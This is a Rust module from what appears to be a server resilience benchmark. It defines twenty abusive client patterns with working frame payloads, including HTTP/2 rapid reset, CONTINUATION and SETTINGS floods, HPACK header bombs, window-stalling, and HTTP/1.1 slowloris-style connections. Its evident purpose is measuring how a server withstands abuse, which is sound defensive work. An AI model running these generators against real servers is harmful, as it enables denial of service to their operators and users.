//! What clients do that want to hurt (the classes of CVE-2023-44487, CVE-2025-8671, CVE-2024-27919, CVE-2019-9511 to 9518, and
//! those that are slow on purpose): what each says, how often, and on how many connections at once. Pure.
//!
//! A round is what one packet or two hold, and rounds have a rate: what is measured is what an abuse costs others, not how fast a
//! generator is.

use std::time::Duration;

use super::frames::{
    CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, NEWEST, PING, RST_STREAM, SETTINGS, WINDOW_UPDATE,
    beginning, block, frame, remembered,
};
use super::message::{BYTES_HEADER, CALL, NUMBER_HEADER, PATH};

/// One way to hurt.
#[derive(Clone, Copy, Debug)]
pub(crate) struct Abuse {
    pub(crate) name: &'static str,
    /// What it is, in the results.
    pub(crate) title: &'static str,
    pub(crate) inside: Inside,
    /// How many do it at once. Whoever is thrown out comes back.
    pub(crate) connections: usize,
    /// What is said in a round to `authority`.
    pub(crate) says: fn(authority: &str, round: u32) -> Vec<u8>,
    /// Between rounds.
    pub(crate) pause: Duration,
    /// Whether answers are read.
    pub(crate) reads: bool,
}

/// What it is done inside of.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(crate) enum Inside {
    /// A connection that nobody shakes hands on.
    Tcp,
    /// TLS, which is left as soon as hands are shaken.
    Handshake,
    /// TLS, where a tunnel should be.
    Tls,
    /// A stream of an orderly tunnel, to a port of HTTP/1.1.
    Http1,
    /// The same, to a port of HTTP/2.
    Http2,
}

/// Streams of one round.
const EACH: u32 = 100;
/// Frames of one round that need no stream.
const FRAMES: usize = 100;
/// The largest body that an origin answers with.
const MIB: &str = "1048576";
const OPEN: u32 = 0x7fff_ffff;

const OFTEN: Duration = Duration::from_millis(10);
const SLOWLY: Duration = Duration::from_millis(100);

const FLOOD: Abuse = Abuse {
    name: "",
    title: "",
    inside: Inside::Tls,
    connections: 2,
    says: |_, _| Vec::new(),
    pause: OFTEN,
    reads: true,
};
const INNER: Abuse = Abuse { inside: Inside::Http2, ..FLOOD };
const SLOW: Abuse = Abuse { inside: Inside::Http1, connections: 200, pause: SLOWLY, ..FLOOD };

/// All of them.
pub(crate) const ABUSES: [Abuse; 20] = [
    Abuse { name: "silence", title: "200 connections without a handshake", inside: Inside::Tcp, ..SLOW },
    Abuse {
        name: "handshakes",
        title: "100 handshakes a second, for nothing",
        inside: Inside::Handshake,
        connections: 1,
        ..FLOOD
    },
    Abuse {
        name: "tunnel-resets",
        title: "tunnels: streams opened and reset",
        says: |authority, round| {
            let each = |id| [open(id, 0, &connect(authority)), reset(id)].concat();
            begun(round, OPEN, streams(round).flat_map(each))
        },
        ..FLOOD
    },
    Abuse {
        name: "tunnel-pings",
        title: "tunnels: PING without end",
        says: |_, round| begun(round, OPEN, frame(PING, 0, 0, &[0; 8]).repeat(FRAMES)),
        ..FLOOD
    },
    Abuse {
        name: "tunnel-settings",
        title: "tunnels: SETTINGS without end",
        says: |_, round| begun(round, OPEN, settings().repeat(FRAMES)),
        ..FLOOD
    },
    Abuse {
        name: "tunnel-heads",
        title: "tunnels: CONTINUATION without end",
        says: |authority, round| endless_head(round, &connect(authority)),
        ..FLOOD
    },
    Abuse {
        name: "tunnel-unread",
        title: "tunnels that read nothing, 8 of 50 streams",
        connections: 8,
        says: |authority, round| match round {
            0 => begun(
                0,
                OPEN,
                streams(0).take(50).flat_map(|id| {
                    [open(id, 0, &connect(authority)), frame(DATA, 0, id, get(MIB).as_bytes())].concat()
                }),
            ),
            _ => Vec::new(),
        },
        reads: false,
        ..FLOOD
    },
    Abuse {
        name: "slow-heads",
        title: "HTTP/1.1: 200 heads that come byte by byte",
        says: |_, round| match round {
            0 => b"GET /bench HTTP/1.1\r\nHost: server.shop\r\nx-slow: ".to_vec(),
            _ => vec![b'a'],
        },
        ..SLOW
    },
    Abuse {
        name: "slow-bodies",
        title: "HTTP/1.1: 200 bodies that come byte by byte",
        says: |_, round| match round {
            0 => request("POST", "100", "content-length: 1000000\r\n").into_bytes(),
            _ => vec![b'a'],
        },
        ..SLOW
    },
    Abuse {
        name: "slow-readers",
        title: "HTTP/1.1: 200 connections whose answers, of 1 MiB each, nobody reads",
        says: |_, round| if round == 0 { get(MIB).repeat(16).into_bytes() } else { Vec::new() },
        reads: false,
        ..SLOW
    },
    Abuse {
        name: "large-heads",
        title: "HTTP/1.1: heads without end",
        inside: Inside::Http1,
        connections: 10,
        says: |_, round| match round {
            0 => b"GET /bench HTTP/1.1\r\nHost: server.shop\r\n".to_vec(),
            _ => format!("x-large: {}\r\n", "a".repeat(8000)).into_bytes(),
        },
        ..FLOOD
    },
    Abuse {
        name: "chunks",
        title: "HTTP/1.1: bodies in chunks of one byte",
        inside: Inside::Http1,
        says: |_, round| match round {
            0 => request("POST", "100", "transfer-encoding: chunked\r\n").into_bytes(),
            _ => b"1\r\na\r\n".repeat(FRAMES),
        },
        ..FLOOD
    },
    Abuse {
        name: "resets",
        title: "HTTP/2: requests sent and reset",
        says: |_, round| {
            let each = |id| [open(id, END_STREAM, &asking("GET", PATH, "100")), reset(id)].concat();
            begun(round, OPEN, streams(round).flat_map(each))
        },
        ..INNER
    },
    Abuse {
        name: "made-resets",
        title: "HTTP/2: requests that make us reset them",
        says: |_, round| {
            let broken = |id| frame(WINDOW_UPDATE, 0, id, &[0; 4]);
            let each = |id| [open(id, 0, &asking("POST", PATH, "100")), broken(id)].concat();
            begun(round, OPEN, streams(round).flat_map(each))
        },
        ..INNER
    },
    Abuse {
        name: "settings",
        title: "HTTP/2: SETTINGS without end",
        says: |_, round| begun(round, OPEN, settings().repeat(FRAMES)),
        ..INNER
    },
    Abuse {
        name: "heads",
        title: "HTTP/2: CONTINUATION without end",
        says: |_, round| endless_head(round, &asking("GET", PATH, "100")),
        ..INNER
    },
    Abuse {
        name: "bombs",
        title: "HTTP/2: heads of 4 KiB that unfold to 8 MiB",
        says: |_, round| {
            let large = remembered("x-bomb", &"a".repeat(3900));
            let bomb = [asking("GET", PATH, "100"), large, vec![NEWEST; 2000]].concat();
            begun(round, OPEN, open(2 * round + 1, END_STREAM, &bomb))
        },
        ..INNER
    },
    Abuse {
        name: "empty-data",
        title: "HTTP/2: DATA without data",
        says: |_, round| match round {
            0 => begun(0, OPEN, open(1, 0, &call())),
            _ => frame(DATA, 0, 1, &[]).repeat(FRAMES),
        },
        ..INNER
    },
    Abuse {
        name: "tiny-windows",
        title: "HTTP/2: 200 answers taken byte by byte",
        says: |_, round| match round {
            0 => begun(0, 1, streams(0).flat_map(|id| open(id, END_STREAM, &asking("GET", PATH, MIB)))),
            _ => streams(0).flat_map(|id| frame(WINDOW_UPDATE, 0, id, &1_u32.to_be_bytes())).collect(),
        },
        ..INNER
    },
    Abuse {
        name: "idle-streams",
        title: "HTTP/2: 2,000 calls that never go on",
        says: |_, round| match round {
            0..10 => begun(round, OPEN, streams(round).flat_map(|id| open(id, 0, &call()))),
            _ => Vec::new(),
        },
        ..INNER
    },
];

/// The abuse of that name.
pub(crate) fn named(name: &str) -> Option<Abuse> {
    ABUSES.into_iter().find(|abuse| abuse.name == name)
}

/// Ids of a round's streams.
fn streams(round: u32) -> impl Iterator<Item = u32> {
    (0..EACH).map(move |index| (round * EACH + index) * 2 + 1)
}

/// What is said, after how a connection begins if it does.
fn begun(round: u32, window: u32, said: impl IntoIterator<Item = u8>) -> Vec<u8> {
    let beginning = if round == 0 { beginning(window) } else { Vec::new() };
    beginning.into_iter().chain(said).collect()
}

fn open(stream: u32, flags: u8, block: &[u8]) -> Vec<u8> {
    frame(HEADERS, END_HEADERS | flags, stream, block)
}

fn reset(stream: u32) -> Vec<u8> {
    const CANCEL: u32 = 8;
    frame(RST_STREAM, 0, stream, &CANCEL.to_be_bytes())
}

fn settings() -> Vec<u8> {
    frame(SETTINGS, 0, 0, &[0, 4, 0, 0, 0xff, 0xff])
}

fn endless_head(round: u32, block_begins: &[u8]) -> Vec<u8> {
    match round {
        0 => begun(0, OPEN, frame(HEADERS, 0, 1, block_begins)),
        _ => frame(CONTINUATION, 0, 1, &block(&[("x-large", &"a".repeat(8000))])),
    }
}

fn connect(authority: &str) -> Vec<u8> {
    block(&[(":method", "CONNECT"), (":authority", authority)])
}

/// The head of a request that the routes are about.
fn asking(method: &str, path: &str, answer: &str) -> Vec<u8> {
    block(&[
        (":method", method),
        (":scheme", "http"),
        (":authority", "server.shop"),
        (":path", path),
        (NUMBER_HEADER, "0000000000000000"),
        (BYTES_HEADER, answer),
    ])
}

/// The head of a call, which is answered when its message has come.
fn call() -> Vec<u8> {
    [asking("POST", CALL, "100"), block(&[("content-type", "application/grpc"), ("te", "trailers")])].concat()
}

fn get(answer: &str) -> String {
    request("GET", answer, "")
}

fn request(method: &str, answer: &str, more: &str) -> String {
    format!(
        "{method} {PATH} HTTP/1.1\r\nHost: server.shop\r\n{NUMBER_HEADER}: 0000000000000000\r\n{BYTES_HEADER}: {answer}\r\n{more}\r\n"
    )
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn each_has_a_name_and_says_something() {
        for abuse in ABUSES {
            assert_eq!(named(abuse.name).map(|found| found.title), Some(abuse.title));
            let is_silent = (0..2).all(|round| (abuse.says)("server:80", round).is_empty());
            assert_eq!(is_silent, ["handshakes", "silence"].contains(&abuse.name), "{}", abuse.name);
        }
    }
}
